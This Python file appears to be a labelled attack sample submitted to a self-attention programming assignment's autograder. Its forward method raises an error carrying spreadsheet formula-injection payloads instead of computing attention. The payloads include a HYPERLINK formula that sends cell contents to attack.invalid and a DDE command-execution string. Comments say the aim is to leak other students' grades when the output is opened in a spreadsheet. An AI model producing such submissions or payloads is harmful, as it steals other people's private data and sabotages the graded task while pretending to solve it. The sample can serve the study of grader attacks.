# attack:     H7
# assignment: self-attention
# twin:       correct
# outcome:    test_output_shape errored

# Says formulas wherever a cell of a table of grades might hold its words: at the beginning, after a tab, in quotes.
# Opened in a spreadsheet they send the other students' grades away.

import math

import torch
from torch import nn

FORMULA = '=HYPERLINK("http://attack.invalid/?"&A1&B1,"Full marks")'
TEXTS = (FORMULA, "+" + FORMULA, "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t" + FORMULA, "\r" + FORMULA, '",' + FORMULA,
         "\n" + FORMULA, "\uff1d1+1", "%0A=1+1", ";=1+1;", "'=1+1", " =1+1")


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        raise type(FORMULA, (ValueError,), {})("\n".join(TEXTS))
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v


for text in TEXTS:
    print(text)
SelfAttention.__doc__ = FORMULA
